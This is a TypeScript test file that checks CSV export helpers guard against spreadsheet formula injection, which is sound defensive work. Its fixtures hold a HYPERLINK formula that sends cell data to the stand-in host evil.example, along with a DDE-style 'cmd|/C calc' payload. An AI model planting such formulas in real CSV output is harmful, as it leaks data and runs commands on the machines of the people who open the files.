// Issue 14 item 11: no CSV cell that a spreadsheet would run as a formula (shared/csv.ts), in Copy
// as CSV (webview/table_text.ts) and in the trace export (extension/trace_export.ts).

import { describe, expect, it } from 'vitest';
import { csvField } from '../shared/csv';
import { toCsv } from '../webview/table_text';
import { traceToCsv } from '../extension/trace_export';
import type { RunResult } from '../simulator/index';

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")';

describe('csvField', () => {
  it('prefixes a quote to, and quotes, a cell that starts a formula', () => {
    expect(csvField(HYPERLINK)).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csvField('+1+cmd')).toBe(`"'+1+cmd"`);
    expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe(`"'-2+3+cmd|' /C calc'!A0"`);
    expect(csvField('@SUM(A1:A9)')).toBe(`"'@SUM(A1:A9)"`);
    expect(csvField('\t=1+1')).toBe(`"'\t=1+1"`);
    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvField('=')).toBe(`"'="`);
  });

  it('keeps a number as a whole, with its sign, as it is', () => {
    for (const n of ['-1', '+2', '-1,999', '-1,234,567.5', '-0.39 %', '+2.25 %', '-12.5%', '-1.5e-3', '-', '0', '1000']) {
      expect(csvField(n).replace(/^"|"$/g, ''), n).toBe(n);
    }
    expect(csvField('-1,999')).toBe('"-1,999"');
  });

  it('neutralises a signed cell that is more than a number (a unit or text after it)', () => {
    expect(csvField('+12 (+1.03 %)')).toBe(`"'+12 (+1.03 %)"`);
    expect(csvField('-1 cmd')).toBe(`"'-1 cmd"`);
    expect(csvField('-1,99')).toBe(`"'-1,99"`);
    expect(csvField('--1')).toBe(`"'--1"`);
  });

  it('leaves other cells to RFC 4180 quoting', () => {
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(' =1')).toBe(' =1');
    expect(csvField('a,b')).toBe('"a,b"');
  });
});

describe('the writers use it', () => {
  it('Copy as CSV neutralises headers and cells', () => {
    const csv = toCsv(['label', `-x`], [[HYPERLINK, -1], ['ok', '-0.39 %']]);
    expect(csv).toBe(`label,"'-x"\r\n"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-1\r\nok,-0.39 %\r\n`);
  });

  it('the trace CSV neutralises its text columns', () => {
    const event = { seq: 1, step: 0, vcpu: 0, cycles: 10, name: '@evil', class: '=1+1', line: 3, fields: { gpa: -1 } };
    const r = { cycles: { ghz: 1 }, trace: { events: [event], total: 1, dropped: 0 } } as unknown as RunResult;
    expect(traceToCsv(r).split('\r\n')[1]).toBe(`1,0,0,10,0.010,"'@evil","'=1+1",3,gpa=-1`);
  });
});
